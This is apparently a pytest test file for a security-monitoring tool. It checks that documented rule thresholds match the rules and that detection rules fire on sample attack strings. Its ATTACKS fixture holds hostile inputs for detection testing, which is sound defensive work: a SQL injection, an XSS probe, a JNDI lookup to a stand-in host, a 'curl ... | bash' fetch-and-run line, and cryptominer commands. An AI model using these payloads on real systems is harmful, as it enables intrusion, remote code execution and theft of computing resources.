"""docs/rules-precision.md is true: it lists each threshold that rests on argument; the corpora fire what it says."""

import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from bench import precision
from secmon.content import rule_files

DOC = Path(__file__).parent.parent / "docs" / "rules-precision.md"
MARK = "no field data"
NUMBERED = ("event_count", "value_count", "value_sum")


def documents() -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Yield area and name, text and content of every rule."""
    for path, text in rule_files()[0]:
        for part in re.split(r"^---\n", text, flags=re.MULTILINE):
            yield precision.stem(path), part, yaml.safe_load(part)


def is_judged(document: dict[str, Any]) -> bool:
    """Tell whether a rule counts up to a number that somebody chose: not steps, nor what a baseline compares."""
    if correlation := document.get("correlation"):
        kind = document["custom"]["secmon"].get("baseline", {}).get("type", "spike")
        return correlation["type"] in NUMBERED and kind == "spike"
    return False


def told(document: dict[str, Any]) -> str:
    """Say what a rule counts, as the list does."""
    if correlation := document.get("correlation"):
        condition = dict(correlation["condition"])
        field = condition.pop("field", None)
        limits = ", ".join(f"{name} {number}" for name, number in condition.items())
        return f"`{correlation['type']}`{f' of `{field}`' if field else ''} {limits} in {correlation['timespan']}"
    found = [
        (name.partition("|")[0], number)
        for selection in document["detection"].values()
        if isinstance(selection, dict)
        for name, number in selection.items()
        if name.endswith("|gte")
    ]
    return ", ".join(f"`{name}` gte {number}" for name, number in found)


def line(stem: str, document: dict[str, Any]) -> str:
    return f"| `{stem}` | {told(document)} |"


def test_a_threshold_says_whether_it_was_measured() -> None:
    silent = [stem for stem, text, document in documents() if is_judged(document) and "  # " not in text]
    assert silent == []


def test_thresholds_that_rest_on_argument_are_listed_as_they_are() -> None:
    wanted = sorted(line(stem, document) for stem, text, document in documents() if MARK in text)
    lines = re.findall(r"^\| `[a-z]+/[a-z_0-9]+` \| .*`.* \|$", DOC.read_text(encoding="utf-8"), re.MULTILINE)
    assert sorted(each for each in lines if " gte " in each) == wanted


ATTACKS = [
    ("address", "1 union all select name,pwd from users", "web/sql_injection"),
    ("address, encoded twice", "<script>alert(1)</script>", "web/cross_site_scripting"),
    ("path", "博彩平台", "web/dark_link"),
    ("referrer", "${jndi:ldap://203.0.113.9/a}", "web/jndi_injection"),
    ("browser", "sqlmap/1.7", "web/scanner_user_agent"),
    ("sudo", "/usr/bin/date -s 2026-01-01", "servers/clock_changed"),
    ("process on Linux", "/opt/xmrig -o stratum+tcp://pool.example.net:3333", "servers/miner_running"),
    ("process on Windows", "svc.exe -o stratum+tcp://pool.example.net:3333", "windows/miner_started"),
    ("cron", "curl http://203.0.113.9/i.sh | bash", "servers/suspicious_scheduled_job"),
    ("statement", "update xs_cj set zcj=92", "database/records_changed_directly"),
    ("attachment", "通知.pdf.exe", "mail/disguised_attachment"),
    ("name asked for", "x.dnslog.cn", "network/dns_exploit_callback"),
    ("file written", "D:\\HOW TO BACK FILES.txt", "windows/ransom_note"),
]
"""Place, text, rule that has to see it there."""


@pytest.fixture(scope="module")
def found() -> precision.Found:
    return precision.over_texts(precision.shipped(), {"attacks": [text for _, text, _ in ATTACKS]}, {})


@pytest.mark.parametrize(("place", "rule"), [(place, rule) for place, _, rule in ATTACKS])
def test_rules_read_what_stands_in_a_place(found: precision.Found, place: str, rule: str) -> None:
    assert found[(f"attacks: {place}", rule)] >= 1


def test_only_texts_that_people_send_are_tried() -> None:
    assert precision.distinct(iter(["ab", "abc", "abc", "x" * 2_001])) == ["abc"]


@pytest.mark.corpora
def test_the_corpora_fire_what_the_list_explains_and_nothing_else() -> None:
    corpora, ruleset = Path(os.environ["SECMON_CORPORA"]), precision.shipped()
    texts = {name: precision.texts_of(corpora, name) for name in precision.TEXTS}
    records = precision.records_of(corpora)
    assert all(len(each) >= 40 for each in texts.values())
    assert sum(map(len, records.values())) > 1_000
    found = precision.over_texts(ruleset, texts, {}) + precision.over_records(ruleset, records)
    row = re.compile(r"^\| ([^|`]+) \| `([a-z]+/[a-z_0-9]+)` \| (\d+) \|", re.MULTILINE)
    explained = row.findall(DOC.read_text(encoding="utf-8"))
    assert {(where, rule): int(count) for where, rule, count in explained} == dict(found)
